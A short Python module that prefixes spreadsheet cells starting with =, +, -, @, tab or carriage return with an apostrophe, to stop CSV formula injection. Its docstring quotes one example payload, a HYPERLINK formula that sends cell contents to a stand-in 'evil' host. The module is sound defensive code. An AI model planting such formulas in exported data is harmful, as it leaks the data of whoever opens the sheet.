"""Crawled text in CSV cells, made safe for spreadsheets.

A cell that starts with ``= + - @`` (or a tab or carriage return) is run as a
formula by Excel, LibreOffice and Google Sheets: a crawled caption such as
``=HYPERLINK("http://evil/?"&A1)`` would leak the sheet. Such a cell gets a
leading apostrophe, which spreadsheets show as text (OWASP's advice).
"""

from __future__ import annotations

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(cell):
    """``cell`` with a leading apostrophe where a spreadsheet would run it."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell
